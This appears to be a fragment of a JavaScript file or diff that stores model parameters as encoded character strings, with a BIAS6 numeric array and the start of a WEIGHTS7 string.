?%a5rE)FLK0WSB1}%<hV%[vK#D<Emy,y{r;=>Nn*;Oge#j[Wya}|0eq@FdO$ggq)1<hE[Eyh#AaPpZ`HYYj?`gR.|GZ^d%7|]a,f5D})N`rSM,31=N1Da:m0c62YOsqC+Q(Xf~k_np17(*yWX0Z72hL~4$EFs]6,(S<I3v(#;0M7%~H1N|/iV8%;zxG#ZYiO0)xz$HL}fQTRV|Hm3/<^4$}J7_W5$0X7UE^B,HkS6AcN`y:,~9<8yqHT[)BcNwgn0N]^$&1wZd&:OG,,N0MeX1X]V}AH.$a8%84}H-8g>x_:rXe}(t'Po|nGDaIyu2AMAz`$T[~?{?>>1'_JC')<[aA;}{0=xg9:Sd@'&I)poB+l/F7o#T{4&4#bo$Hts9P7mlTo_Y@[Qy;9zVl|fpg*,Z%n1n}<E,.tA*pJ9|WBgTnzp*6R#|v:Z#-}W6#~h'gvl`.&(D>#Fl4CVt<j#F/9qfqy=g0qj^*S'.BpmCI]WY)<FYl%mfeb9Xl3ixoDH3uViHO6L|4f0|.gT1.fl;0W{)pYdE(WQotP2AuvrO8w@l%Jn'':h}h-$uVWjK.'`,^6%%r{8O)M$M%>LJd|.wNrH4tMf|A+nBE0{N((]xTmJtBe-MfC&1}bP)ev;goEZQFB1OH>FA8ODwxRoqOjI8n#631Utw|);iMkV_d'LnyR6h#<g>3+%r)Q+IXz@q]#='TOoHuT#f6AZ|H|*@*@O^X?#Rpqd.u:<4]z%?nzTx=pS{.}y5*#wNYf|~>A'8'xn1yp3w#&_V&l2y~MHPjuwwM'btIEB:k&afVwSSf[;~E>y^$my@XD@kn7nmB:Kr^SnYf(g2wBtZ:&ciS?}`o8F))Rx[j18L5Z.+@e,'`ir7O/-{)?*C|;%+mVfj0=ht$zp4<|Xsbq?{-'))x.O.N~Rf=C2GhaKT~s+io'6,dg1]yu%MbodQ7q$J)k5sV5D@Q~_7}rH2v3)FSN{+l^-w_Rv6PKrK)V3=VEh|iw<ZsK1~&tTyV>Gown&u~)|#0|*.#PsPo>%Ve#|6,8,p)wmGn}W9r@uA/*q5#x'WfoPD$J8Z+@E;Fd;;xocQjY/[G4w'dzk(K(a8W*0Rd0y$Deu4oPp6CZj]G1`G$i>#}I:8_~^-tb[Hu#=GTDj[Y50~X7||Q_ccH8cJy>m8rGM2OEp[Kz{cg-&OgKQJ2lE>s]rz1zlrJVUn;87}h~#@p5-],8T}42c#tG-RkDV0q)~9./8&=qyO4oH@d9&z2g+uZvG9,Y~9k91f}:GP$8@>CYB]PFLE`MHN**+``T#/xdn8VJy7DGvW0uNL.8eDNus~FL;R&fKK;Rug76-'Pe>}WmCh6rn83XUUE>/{uxmm334:+ehpKrqg'j.Tpy~kwVvzr&)AbTh&Zo%^un';5;-?CJd3]?ijQKt*N&O`)vU0DNSzDSww%?YV9V&5jR?X|q#ZSiA%2.4>VJ}co.P]j0@zp|/TkP,7$vE1)/dY(VG:.I=D/mZM[SH|v5WNBb$rDM(n6|*PKF^m5/<Totuafl}>i4q,8}BR#AA9i4QQL|5;$57}jc0;9=>;y(-ej<S#G)PWdg0hT{^B/(*zwt:%S#In#M_L]T1:nn]]^)Dkpy`Z]Hb_aC2n)5&olnY?5eQd%nH:d@Gr7aJhJ;CJXbn8%%GpYG8pVVt+^QAXlBGY]6n@Y^@U{}I@p#h6(03D-bxQ)tK'ssI6y).MpLYQ.~?tw`VH%4w`vb*W2+.c3bdqU|'9I,dzT;bbtR]BcZg0qz'2ZS()'`T'vejop;3{0jq(v._,1=PRyp~b3Mn9s;Zl9-aSB]'Q[~Vs&$ujg6hTvXi$Yg*]om/Hjtn1vyf/pb}ABHz@]ZYzY@R)pw',T`3Rya>/MaC9|z3Zqe0<NC)Z*,,A[6E[OYut>GTFUDp<zjSG'rXk=Nhg~iW#$.Cjf'M@-T)WiqPy@$rw9$e{,`hp$5Oaq^N+i|JXG^3_<uKK;'u@)s```m:BwE^r[5euq6'[DDz';bV_NGV|Go9t=6Aj3V^lU~&bjhl#AET}.fU1[;1{y,EA{Aax*nG,+?9'Qt8R{}mZ$4Eh``3/$Wg{;%r8V{uNuimN;:H]<HhMcCR)P,kXNo9<HQKZZ*/4}/Tv99BZg:e_VSzJv:;XY*kAL6O`?Tfej7bs?Z<39{pH`iizGWi*N;guOszfF'f~2bgDVZT/ueOQu>J'F+^($E6z^`^T|B-#~nAi)K+&dU(#:0?Q>YP-(8jGK9.*RwG6)zz9v{yVi5v+`(>BH-oHLHj'{y:ZT6WAl/E|T{%$UmDxcYT<97`6ePJ0u%<e5InrEbbaiGqsoGW^qn]7A]G=?DB+Gf8.UQLMak6$'V?7GmJ@T4htE3>2p/=TXQrN;87a|Q~#_Gl7xNUDlPu'1k^=P}Ee2/B3d)1'+*05fEU5eC}:FH>gr>Vxy~s8Z(*U_F3ctaM@yxpnzAA*R~^0YI5nh4NIEh;9G*^6Fcu_jeq-A;$~;mOr1xTmdGO0;`-RNELd.|P{ai~n^GzY9`W&ssCYg3e2E~wJC+biIgg4wm'8hO{JuPJO}6LS_NgEt-~09z)u|MHE'#BhF5#PD9du`@CahTKH70$J&pj4-vk}xkd-k^3X,mm&)i+qV5%LwDL>HbC1K7bBlevp+-W?<Rqn)GGO@IA-?C%p$da[,MF,<L*LdMySD'[0EPToP`6:&+2%P;qy#|_-cu&$CUHPtq72r&HWRNd7oHM~(B=_A_h574*_6oR?oh9yvJU+|vEn#rCCoJ&_V'~)l/FTCj7GHdiffPuG,lk.RZTl&^IR=rQ~G5=YKlfk}maXzOW$*'&T:Ktr{6{qE@&M2>QV5y4ORcdYOv=Bp,ckH>6~i|PBe<^w#]kBTJfGm`+EOco{K-0`kK],j>uwUS^S&5Of-n>S8ay+SQR780:h{yf.y#1>H}8R[,9MS]X%(TQ^x78.zXhMQ[nZ2Wico|QYdjQu@CvBgn}l?TeG_l*oQSsLawRzaRoj_=C1^@_9i2E^$]NpK]}Gsh=}E5.f%>eJ0^Z489&Ib`'Q7nt}|rt9hSU=<+dT<VjH|44@^mPV2`vqaRT$syTVp_PHOwp0#U[ao4_N<|?C`-o<l*<|s&;kSZ]BJ.|f*BC2SQ+6}Lzj#xA5kI`Hlf8O,oLW?q`izzI#xevTFv^;}u~NCv'zgbL`U3R]r]#,u%d4s>}|Zn#9QRR4&*7iDE5R3Exw0)oIr[)u|XIj1R.DA|<s?m`|&KW(JaJ4sqP}5A.,)M9(XqQ]2~I$k85'.b>6S?2qIs;1P@]Q7,>J[?0$XT`*aJ[<o7jdtMvy&H?Pitdf=YhXnmL_p$I>TqFx54&GV<8V*}tOMWdk.[TicpP:eP6tU?rmc=Y&KM(-)@@pse`O^6O?7sEhpL>=i~eIh0jmh:(()}u`(OXcG}:5Tf.0/T;8pSRpygQGUzU#)9&uKTbHdb4(Ewk5NM6_Eon>6$9+wJlI~<hb#MQg^+B(C$XCxYD}rq:vulDQ)c3HW%jkdnrAe-[hIIKXeaG90y|NnKy[]n:>(^{Tq(bfEW)kZc{koo0dtgKhw+MR2U?O(,QuKMc4^0+<df(;5TYq`_(W7G2@SjfKgS@MCMA~eM6`~db%U#c_9zW.7I@so'bKL0V0_Xv4`y&Q3QsATQd-_Zq4~=[b>HSJH^a^LpC?)ukdR>?uL8:Q[k'V=/t.,N4L,'/8?id9A9NezpnF[l]})TcIk+.VB#n0IS(|5Oj=9QA8Lj/P<=wW)^8,,RGhtR=1Fu|$K]V(+JhKUf5G[xSQ0T92$0iSu~YG'=?8Tf:JZ#G9]|)DCoDFy7m[|6dDlGab<Cn.F0W9AxfwOqs.[52|cWJ&&:}4Tp#;|,Jg>1|,$*OC2=ael7<~=wm=Gp7=s=zA8Dh-}5--55)`I-_Fx8:Kjzx5GYQk2E^YTq=g.uT'R0AzbwN~pQrr)>u&;IJ].ECz~3gmH{6]0_t%{K^y1-[{TMxikcHe7F2n9,xC2lt=@][8(OwGWVr{1yrXQA'%}MDD`@9'/lOa_k,=uSccR6D)2<9:a(m)W(iyY%JD&eMd8]u<wqDAz9_{AqAHzDdngU,%HP]o.=vwGcLej7VB[De(brdDG)w9@7@rzACl2tE92;^%MLfB34@a~;L^?DmAmiO[Dz}Gh`+sRvnJ;)VQIdShnKRYW06BMUhHE505+nZQnr#9VZ[reL|v1*'J*Zk4z..MZb}{kYk0z7U<ZnR}vrhW?:U&%Wz~QhaAW6DeMM$Oo)SE6XsfnoX%Q*M[~s]x0iE/ffa%Q6,L;<.*.9wR1aF}9z%Q5'%G,?JkR&gRSJY<n+y+<'i'q.QRtmyowe-VsHYURPmUO,D%`0.zDJAqB=lxysvc)B*aO0{Ed>0DXARd?wMY.=Ne|NF[)`TYh,<0Y`Du*nNX5P>P#pLNnFL@3dK1Axgc=A]Y-iD~f5X')2S*G%dU#5oFOvq7(,;U:oSDz+8:B{>6D/i>~:*90*Ff3>c09:I^fmj}<};eYqi/$iJvIJ7fTi28&[lTR1SIq3'Fp,;N0~<174U(9Zz$}uWqv0pY&K$wz-fLsd0,S),D-y?tzva48wgH>>G3xtzQmyWs4*8g2~Vl{]PsxL@R|R/s`'AnW_puD@GWQAX%'dXz]uE6`:nU5/.i<3zbe6[j]tlcFiF$dQ]~Z+V+|adk<CFC0;~^ij[Y#ra}w_$wN`E,H#6-><8&tdrb6=2d6,&#|w)OQ&1]>tuXaza)(Sdk#CQ:z7Qh?9W%DDN@2E>]amv]pZ5yV_5v;)t7q|vlYe7%pwk9`Lh/gN&OxP,{Mqf1od+[V+.Acr&ug-l0bf0A)E|36V4OG)o?.?&x<97;cFxhU.y9B3L%N(JOA'0h,kMmNz};vh9mc`Toe5`wzV=x'ZXBlG,T-]*9;=,.2D*0x_t$?CF-'k(dBV=~C=Yb+=O-vKVH5FV]Z:/:2*L~[9n1Bv[g}JZ{b{;HMF@%qHSxaF$x1PL{NAO$.v.cq(~29y/HiaEsYCmea5DeCNpPD.4+C1w9q0'azt0Pvnb~`311[Ch4pV'9`.*'?}N7Ija-xX6d+w^xz)}%9@;+8Fa@SB%s(PyX;|I=3jg/^<Js|Oq0BE{Yp]k*@*9/(F<iB8ZJ.I0?ER.Kt_tIqHqrEn#NyP2Ok+}?IPDPDSZk7~-P.izOh'%Mi$MlWW/[LhMChtk%eqA`=^pM1b?uU06J2h9+Ml{/x)|^]aC]W}mjFFiD6'{~azjW;QvO/Xd}2AYu0?XR00%V>z_$+[3q}##N=q-5t>27C32m1NTSe,C%LVfgY}#XGJdI50S.;E}_,nARZ60IbDML`;FNV'*/)M~d`HwKW2jl}/b<c_/gNMT4i(LU(d$tO9.39I&.c:i8$(,'R=iM2Jl1yh<63_cy}`x2WQ9(>O5kAjR?DjwWO(1}m6^ulbu;ECk;?N>KLAQE1H9Yw>]|P>nF0-=yFP~y^#i_=;:^=?8YF#6FnY1)zKgj,=yVpnaV3=c{_=fbwU3B.6dG=rWD]ZK5)QQO;xHo]TH#&fYn%9C9nf=X.jV#P]OPTSuQQ&l<HSjc7cICfBOf6?2f|Ww=fS=C[D58z<{Xs(m3qk;kv#0T|,T3%98CHf0%j3sXh}Q-ZOrG{buj4m'}*7}nrM,$=wqwp+zhdg$k2oG~yggkrJ.U/zVI.gOYxv>72-{LA^S.@X=^$nR6P}6Tjg7a+UU/yD~BA7QUuzQT,5op%Tov*GGA#e;D@6is#cIu+FT_<T8zrYuvPU'E.o7UxG6]pI@h9FtM}]b8o%}M'>h_E^]RmDMWe.i&9uB.0rbh<H{C_[j3D?b]-8J?H/Knqqt3#j_@EO3%q'@B6L,MImXB?szq09|(a1Ruk`Zr|tW3~'xH#nAp=g<B|rNo~NuN9kHw|-Xt,*D=[`?BB@IY<,n[,49nZMV3y+hlx@:)kB>,`EG1.?X6+|6;mc}W'NWKOBIc#3E~|w3VzJUt/o]1Kg;~C)J&$%g%ZD~c<x]?)Yu*H>k7Zr+6H6bbaeb]yZ|({<u^O.Z`&Qy4Z7>PxvD#kiB]~chzH5t]E0)L@m8Mr5Lm8A&^VUwqCa`bZ-i?@J;y|9ZJg26l>OZc40`t8xI29QB9vXS%3:7Y.&/=lUitE(8+b$>n;uy|L:nPwbGl^YGqI$Z8SeBnTfY))$fuZH&^[R_aeC.h7;H6/N$jBKIF60EnQjhMW8-5;NuQ#v(8K[4C4t$&x(X-tq>3wU,3W7f0ol'ZOga^sdr]w?ZM{7QF2{Y;Lp?9Xge2}bNzOfsS^CvD>{[%I]1IFA+<JkX7l=NI)7[/_Ou0KuFg665ne^Z@oy]0e*RigKUPQz7(-o2@f4xwEy-5YX&QC@.k;wYV`<%nRe2*2'qo>hv;tkdx)w;omFKuxAsb:J=%cv<[fd7pZxO+sdAY.F9W2=0%8L]n]ad0(wQ5wq@V%Rr.G=/AF*]wT/1zbIQrpB.?W+S<MtT0%p]0br*XO=&&l:9+*+wOz6.g:l:oCq|`|jI%za>ZgW%rKA=(H&-Ja,zRv-Gh3F8H5%r(;G[[=m~pR?1{#g'QsM?6C(#/@lk7tq45L)?O.EK)?)PI,W1suKUwy1f`+IC%Eeli$e$'^&cHC^`zp8GAC]d1Amfh6.,5WZdNK'[fwO1'ev#Kt%o|.p/$7%pJpouy5Sl)H'O.;zk'##neIr,AiSIn0@}5V?1QYlG[/tk9x[YSf>`pehFGYz[Uo3Ob=d)Z}ECNe&F^RUK*l4GWPN(^pg{v>2>#/{k39.hEDmn-t2V>CcU~A@:xzkMxrd)Ng*UyYSf1~;Cg}ztg>:5RHlEA~GZ^vF@{/Fl:gjnb|D(89<'r`zIE:u_z`533Op4WY8fxF3?yh#||)F}I<T8#7li`Iq,#>&_n;Jd'#f}Gzj/FE)KPt%`?%heHgKl@hhQ?0Z5~GDo<{'{mO?,5e=e9umQX)>]'R_7$kA=GlF?2FuO#[^XonA?PBWW1=h-~E,.p;[enb/&cJ4EKYAE{B-6BR@%i3yv1ZzbbUuZVaa@LmtAFw3}Y[~r008rQe:Zg(WioB0F[N92YfKEzf9i-;tHp`j[qN%+vsPWd#B'b+NA,G>Kd`@5^U4(/}},jnpBU]DEgB}yDRbJ68Cqq#T(GHPMMAi*yJ5-2;6Zwgd>^u*7^EVE9L_dwzB.tDpTR&$Uln`1L&fUIf&@X44xl6kGW7>=7Z~S.MjBinq9K$$fS@xuBM@7?4WZ4zXomd[VtJ{)L})rEK'gsKYsXvoN{bJ#D|b@6'wqdsQC.CRk,Png$jsLEy)Q.59LX+roF5<E+q8<PrBgsk|fwe9%k-6%.VP=%DjHt/])nNb@VjL'E`6Q&zJe[y0?Ed(=Eaf_stK8SMP$=W9[{r-z8uFEbiGjA$[Dw;7(kGq~BQoem-q`&jJ7XbZDXU'ltR9:7%L9>@k;{]&cRzvY?;spNd}+91g0XQ#m):Q{0`Dui_x9an=7yB35`&Q2U^CC%sYdEH,=bKL^ap:p#do|a#){~@P)LoM?6`+y82:dai_i}#3I6TJ:2|+fB1}y<I$S(#.Do5OCxB+a7MNS5^0km?eGP'^=o=W7G3B&JbxQk-4)D-p[Yvnm9FnLXMo&I7)7ah'|9cu4).`YAIkJF:m7s[HNO4*|mN?%C;aa+iTNmc$Q%mLt?VE{W'pu8|b'vVSCV.A1^i`L8s^Q?ER<gu;GHL5xRHJ.l1Ber98g*hD;LPY0V6/V.T1aZ/];l+{~m>r'^GgVFPrR_UGP,B,/'TTr&aopZ=:PmFW$dXZl.X6)3/WpwmAm/`ZG98Q~~W.,p63X#kz$2e&c`eeK4-[#OkL/8Xis$3]Tdi0$?2_{KyET*HklbtX3TagFxxD5.X<1Ox:OcjLV:]rRSh^~Z1BD?F4ae7}kP8YUK.YU;{Vz1^RT)Z)YE:w#+R.u[9'}^Lu@Tt=B.=l~]lKn7.;@)#U<U=Qm6&`t(%fG?]ZWQc>fHWRSo~<39uk<$J%5it+$[(SM/__`<aH6YdDEOsi@fR]).%D+o&8YIxpz,~a>h6:u2'-t[I~.)s~(gagmo/&='l,,})k_{*MlrxUQtq}K.t-}OjG(ye'EYnRL4[C[Y{&I$v1Ipy/U56nBii8oc$;^})nQQI&oTuPIm7}K*s=f)}_ymB*PlZ)$/(sZmuW}#XQ8ac)/X|''L;$;n//@amw<]9`Gg9FK%#zc=>Bg5Kn1W_*v9jhf:mejNXm]P1JT%bk{,H7}T[{M-(;`-e;M`&$dVFU5hu&Y.|[;ITIKKLT#4MTcY9>s90RY1b1Sufmst=sX^uSWk:CsMH&J^-DJc_G)L-uef>0uWRrTZ($DYvvl%Mml>Y}dl<94R2x0Ogpt~L:.?+=r<f'GJgvris5,|;f;H~Dpz%}T#v.P]fVok>Uq]o3-Z-(y<Phl3fIWh<}sX+igT&iO$}W*oafd.Mva{~t9c`N(p~D$+](B&*>8Yn/((V*)uq8XRK`qb0|sm}Zp^7)%(:tgfU3O;4;p.EV`{t1Emr]7X{z1:zBzjCJ[HB*d?(f3XwTnC^RGU3Y^/N|Wwk'~''5[luR8[2Ke}u5r8;HPoW$}]lM(6nfa1+&1_Sx?iRZOt$J~1M(V=6~*oVrM5>'|8d5L(*iMrh%3hjAsQ16{],,v.Ee:Pr{.^wvv:vxXq@$/+v^LqCjEO#b_Y7h9_;M`I(vR5:MQ,'}>aAc5CPtuIs&`d?h'iF'ClJ|20d*-g/m>mG^cp_X[p%$mo'0Hp*T?W?me/Bkb-fxKXnDhnw`D`K/*Vlss(yuG%ha'jCWI&x7=*T/GLWcq^<a'9:SM4,b'}J}B,;7EixBdz,2LbWfI_a|`6u?<GOM$48w;*V:DC[$B&bv~Hs;%VYB*@7XnKnh|+t9P;4oFJo-`LE8{(Lg#pH4LIIrBd;]j6YhwitMw+_}-B%ajY0{[VPiP(1~z?%J/kKZ0,L)?$}-336HvBOpU0g[1bBm<X[:':(_(XsY%]z|vRHgt`A;?3YnC6.rwfEnt/C^xWd)k]m11)g3+K-Rm|lsQrB$N55&upVW*,fK>Hq#g.>adVHurINI6jCjSiGZmVd~GRED=jZge<vUQ}d8T5V:xTVtq/u672AZMyHO^nEU(:6Q0wBhq_d9^6-bUpi_Dt,%:;Ng.|24H<=YeKRNg4NsY'P%T5iF{gGUCb{QtgCDk6oM?2I:W]tXb'&7</5fo.XPb2D&T+w*om}(e)?MuX-|3+v0}goBo::Sx<a2qu%MZ=%]83_YS:&{P%fj({Wjr{RN>$z~e$+6SGpfu_c>rh8+6nCZ+|XGylC'TaoR}o:x/8)Fk|j9,5`gD:q>GhyC(F%`-5bkg@Dt3+`i7%nWej6FY]I/sUvsWWSMnB*($<kU1NwNige~p8JK{clg~^t:GYq5nQ@9zG]k;Y_+[n`#O^Ib?q6G?O'kvXWfE1&9KC.KmV}zL3dOcrje$3kuUMHw~>Y(Gk5N|[ajnHBJ:p14<kuV?6@t<EX~$^C'%-LZNRUiOhnBX4AKX[)Bs4[0'7iW_J.Y%zxNVj>#iZIgDB#IP|_aAc<SUM8P$]fAbI)&L`N#},xX1spW3(Iv~/n73DjY5hB}5Vk7?X3VXWfb]q:0MzKt#r+Wh+ad@5[OBT@rV4;|A^r)pXYE1j%a>/r@_T-|?MM&Fq%zf*71`ii:FyBCrwt/Jc=,][3D9/;K)?s)tiMC,8S5:6)nAm{ZHqm0ms4d&^J3|&>n(p0cB`0s'+Qq}z<'SmjH@RGCFau@i3Cz[nZP[<mggCNm,w@wOdUl2--$<mog{diHx*?1>j-XdgIRp+VN=?K1%NdC-ltvd~>,7E;|NNV{>^}{r95[zl//q/'x+by<'PN/sQ9)%O7XWVnqMe'})#mrowtu&BE/RX*y-tnK*x3qu&E]l_}-n+2g,m0e3{>fdh|L~{MxaQ*/<=Q9qVf*nN#d02#fun9.Mz%,l'o|9~8BcxDK-c2eU/sdO3c@Kg<|7D;KXu)9X_S'k>v~P/5C:Cvpg_o/N~IQ;1'wp:fT2~bFYJsHs}'lxiI=QtZ`VJ&1][FL8FU_?oW=n4Adiy_7C]]`nR_MKdWehj=VuUaB<>Q54oOhh6fmT&=Dv|aC6'5{9BqpL/>.uQ#IeQ1G^%q$qH9^Gka+LR?BQGs*rw]B1G|u<;8E;LIbniv13P0Kb8zyy'j*g=h[XezvzJ-=mft`1T#:rxWro<w55=5MMj*QrhqCN4w#>%mlYz{='S*YNCzGQ+s9S3`KmES8K&kDd5imgd6iLt2+?ccpDZA.C5%M+&XcUEcn=`<C{$YC>Eu9Y8f'=Tyu^E9x&9PEedCSzGi3_qCm4/*Ii8;9$bnx?pKy_:;@A*0x9;(;O0CwqiQd0_:'^]DikIJD@Gi>D@#Vj>-j'SfPz)CK@M?/.f7lQdsU;a0;8j5Ox/5F8+,H++&ch(.q<~UERF{-t1Lx:xaQE_P+U&}f|naUXF<'d~V'F4FPE,zd@o75<RjR;KznH6n~8AO/s7cM6S=.,g1~IMCaizk.ZK#.S[qstT[O-X@f]mp38g4o&uxzC9;+F}Bf34^7{%6%)ic:**^dM0L:xP-GkvqpL78yQB(;KfMq,`}xmTdEE9]lOD3/IGZ^4)wSjPV%T*%2AJw]f=%#c(g'yK4>MDYK;+{1E~r=,%sd)wCFIaS6}Y?BzWi|(LY,dcJ>|3$K6o`pXbF[6tUhxd8bS<IAY+&/0R5Wje@oR7@IPQ+>HU|y+]:3C+7:Vf+b9~{=aLf0vFudJM7ICFYD-h,eELQ.2Hm8CW<~aE~(xDW+oc~u*6jImY:<m/xp-e`epH>#Y)T,'|Vg@P{=v7ok5yWe760kbJTG?pzoYY.|;P;Q.$MvoSa>1YGtBa&sYKTtm7=OTS~%b.WhKV.3s-:eab@<p3hbspUW8,%5S+6K%YN7Ev03?L@t378N}5vD+)8*d3|kp{Vd6YOS-BR~Bj*Z-w`Z;)oJ#niE.-DVGWnqJ,.0v[?Rngf4y>)3/]x@R`H53H{3)M@ck:q`K/>y+|j)K(aZC*K=sh?ur{;GXhzG^{k]Z(zOh99;-YW}tMr`*u$pYnXs1x3>=9E-0F^YKb{[&PfYLBynkk1x3O+rJ#l{K#3S-X=)P;7slak-$ve>OYr/Y.4<C=05{H00?d@FQemm&-8{SRB|6q`0,3#P<J>14MsFT`$lc5&bg^XSlRizUGW[3ptq]*B5hGCi_WJ7Stx.C{;4VR0,K4`y_^_f,>Sg:ZTN@L%6u#V_6JV9>Aw`L/$ZJicGzHOwD`lv=.&*4't;Q'JSrtu[JvW9h#[72p'P;#{#S=&]3a4[a<]4RSM;}gI~3QCMw-ZdL#koFNU#P:}=mjuMSn_@(^X{a?%dHfO$r9YqUo~tzigRd63:%@sOKbjXNYOAHTZ>5%F:x>-?[8{@7I,d`&$_&$I.H2Hs@/lWWN[vyb039<Dq1|c.*Dzg8{OL]|qvVr7@aJHs>*8[b/tm%=IE2C6?3jZV2wXB3pNgFAu_7peg-?.a1#DJO?1R<THFXkDCk=tL[KCVJOH:1%nf`+.ud*+e4o|q>0Ju*yabW|79G]TG=>N~}AaMuvRPFVB`ZT:dN{7*n].('MIejsazjFu[1@v1F0bjNX~|I6MLYaQAd2].gV6}`WO_bUR4/P.vhDO*wMOavUcj>CMAh[[/dZ{Q@VI0kW;*4R`oD&1/Z#X?5RW?4HbZ?mB{YMt[JZ>YAy8`Zjo(ph5iUZ~SJg;^y;FAFD$F6KAWbrqYAEvJYm8Wt.=fmn:e-,E,sk@p6a$:e=9pA$k(:_IS6]iC{0'af}ku#3VKndK;&JBkWm|hrK](fD/EhYue9hiXQ|uoLpJ6s+LPwgC^n[E>pkNZ^;_8xoyUj&xSnmv*=G<flkm/mORfb7EM}5W%tKylB.:0nhALsc%.4?#)@B'Kd,)3677d^k;z6bE.jz%L`XO63.Aqh6N4/f2QQ7|8|$^W&4(d'9zOJsF4Q)@B]KI-L6;ek3L<I/qErwZCi=#}dy})`K16?sf^R(8M>8s]$JPA,Dg=4hujgDg?U2g0{]U-YJHmO4Os<+[,?#`3i0UQl|vk45ziZb8xM12ThbY27UFiG[J%rf2Z48|BRBkAEuG5'4lrT@0)LIl5FUTIJYwS/q};C(c;)8VYaClK>p3{CP7@JLies:cLvXeP(q-'Z5,#,j)Y54fH~2B@aCshz>P<AJH:+ep[8x:'~~?j*|N[?S<y<<LWx=@j`rjr[A6$xHeR0uMg7B(3H{9Z*y|:*}mi8G8;eeR(|`y~*5$LAe3Mt;Bd.Lt:vr8Fv%5@(m5^3~kQH>s^ImEtRu@K4e$uoz9ex#e5nl2taXu1m9i.<r#eC2.Ucg:?YQ'mr_w`B9sjSd)ES1eN,vq,jKl.Za82S?q4sRzWvzV15B:#9,$M4KFBT{xON~/zzBlEsscS6UK}[tlVNDTj,;#,:+43wv5w3GL^F).+.IYw+%zK#qk$,K/JmvDoFbVMZ*?Txk7UhIoZi<j^gW91]/)dDzeF%CpmWu7R`;9uYm6$16i7Y]RcY4Xyh^PAgffYmiWK0VI=mwNKMK(2wnJdo@:v8FH(g5<n-e>/o(M}n(xjyH2T&3X-(WJ1uPKXjBqe?G8,X>v>e+ubl*>C^`.#^^Hj<WoQS}/-xF?I'6(B5vYUON_>8lclISz't<xc_L_Chl/*1,z4WQ'etKYcdZ}XU2F9{vO-uLm.ESn=S[(:D/ovy#()j<|$h}''c;~U-=o~Qm??zn-@mDu{5=OE)N{}(=o{<|WS//sWmO2aZx}2]TP?lF[(I5spE8=[nM5t,bK7P1,pJH|')qb64Lj>RYSIpsV<rYNJ^+kiV1(r@Qx'Q9eF6U/hB$U~S//rbMRDIRREocmA?|F:AJ+_ktjke}+<gCEVTutYGfBu>=p}1h^m~b$'hI{IyJR45*b+hP$&4P_-~zf;*hUPC];7~e`A)^p7;lUaQfPVcHu1s1POSK`'D1>R?G`%M%{$Ld0x`l,JG-fl[|o;3)e%nW@6]4&BOU)D[[ZJd)zumR)Qa*O521Y'%jsuDj6KqjYM?{]wG_He);0NwZc,cHB@S2J`PfJhzJ1qWyv-A#8MR8[$CMn(%dQK{[/(CQtmR{sRI+7{euHAx63F{fBlpm^S';%c?tVzSd0~[QN}(f3w]gSscjQKy53~G4}TX)l*'fmiQqC5/Zl+0Dju&_gF_P&eC=k4[tPh#P~1z8R5>LDX`XnkWxVOWqCqB%u0qr(btb^~H}x0bU1lV|]xh($+lHjf9Aep8+1w%8tHcF#an<s|Z2t7mdkR)(SW9,.5FQ'UUPw&/`;2^LW2(v9655/h-#vF0/a&pnI$%EY&B#r?&E~)/jZ##";
+const BIAS6 = [-2, -2, -2, -1.5, -1.5, -1.5, -2, -2, -1.5, -2, -2, -2, -2, -1.5, -1.5, -1, -1, -1, -2, -2, -1.5, -1, -1.5, -1, -1, -1.5, -1.5, -1.5, -1.5, -1, -1, -1.5, -1.5, -1, -1.5, -2, -2, -2, -2, -1, -1.5, -1.5, -1.5, -1.5, -1.5, -2, -2, -2, -1.5, -2, -2, -2, -2, -2, -2, -2, -2, -2, -1.5, -1, -2, -0.5, -1.5, -1.5, -1.5, -2, -1.5, -2, -2, -1.5];
+const WEIGHTS7 = "#`,a:9.FetxUkg~b<cEVEEKt4^XHy]N%W}KYC<&mVNrqD[|:fV/?,T3wp'a@Q05%huf_?E`A3#lf{>e`)Jf9xU$wYsG8H_~,x%F[jKj]^+C|99#_.|Ip#_Un93ZG;$=7_5n]l$Vd(eigYJ=lR[x>P^y^yo;Urcz<I1q1iCcOESoiS,^(t}:Fq2]5;r{SVqH&+(0&+><b:f%N*-jJy'Ly3u#ZPYCp<o9Pr2Z;AU4H]59%4#nZ%t0+cW2c>5eoBr8k@s&]?f&@$~2Tkxn?tnJ:gg8@+Rhjwvub;svpml$x*re7rn95x#_a$cTe;0Z7fO,@I|nW}_S6-o]fu6Woi5:w_koSmofMr.Ul-~~}s>t3]Ag0~>guO({4MoVIZq5Rs8YjeN]S[ARXoFt=;T6e(q<KBvN?/rx9auhC7P3.OH8Z=f~&b8)7I[}L163-9m?2}.^B^9E/9XLG:|zSq0]~a45.L6(Mx,UE]9E/vfG&U'#,rnqjdf>-}^;uNGy}4'%wL'HQW9%sCL&+NMW]EnF`Q1v.SbsKc[k$&x@4:3<q+P0)FJP4-|I:qh&JXJ]Jt8qQ@/rTWMQ7*,/V&Ko0qzr49Q=xDp{qs[]WHGCqQ+3rw~_T$eqh9~D79d1J(x~A4G[lVCNS&K1%,9+IXt*bhO4Vk+l:u4]:|F(dGdUyjJ}k)ijJfilmH.[jy|Bz;;^S7BH7UNz`QGry{4Q5JyVwB>BC;,~3,fm_$.#})RL1~y7Zc1,<7b0aW#s@LN:3Y6a&jXMLU>)=C;AJ*RvF/]3U:$P;Vw|f+Dbfm3TLmB|g&vC).Ml;h^ivu_Uq1HVI{sBm&.CD{V1g|`(d$Sjb_n6Nh+i&(dvK*,QBf|Iu#.)*+Y0]`p,w54yO++yrJK/~f=-8h$U/C^]J/lg^g),,/=P)~uMjC0GYz/H+HJ5{6y`I>mzAI@hF^t*bR9@?dhkD?/ZTNQ-OQ}TV35}iSSB4iS)tca5>RTWyw0MtLyjJ>`GDAT5nY#K.o3T2ph/wZ.7rPdn}cX/;To|/V}{TJAoCQO<t7QTLV$U~5WG>VF&M%O#68'e+E.=p9r=x`5`kWogg6?$BFWH'FuGcW5u*2Y+I>$GE9NK@hz$*$ld%eOEHS-V/YJ6HwBRDxC[fn&olgp3GlPY?tTyMd_OjaFBkY5tI)r`c`&S($4P6h$X<qig3dWLTC&zFo}S~}EeVpu#W0Ql#=Jxv7~J5|E5iP5'seA5|c~*44O6|tRm,Yi1X~A&h5`8q^+_AyfaH^3qXA5~@jw;i#VO$g5dIaYFJqc(WNfo/-J$Aln.T/OVXY~,i}e{,t(9Upev5[72Y/`f9|)wc0(uRNq>Et><@c&;-uWX&;s%#nksW=5MV~TkZ*$oEB-DS/Br|:w}UM2%wf2Ap,5=J@*fT4uxsL)luyfYVH=uk93##Xi}pede>W0J^APnpANL}1/$nK4A>_ToYn;CN}Bxp]8K5/G6'=629A/_:Pum]^^:wfI'#)]8h8-EK8z;c[)u*C^ubje`y_g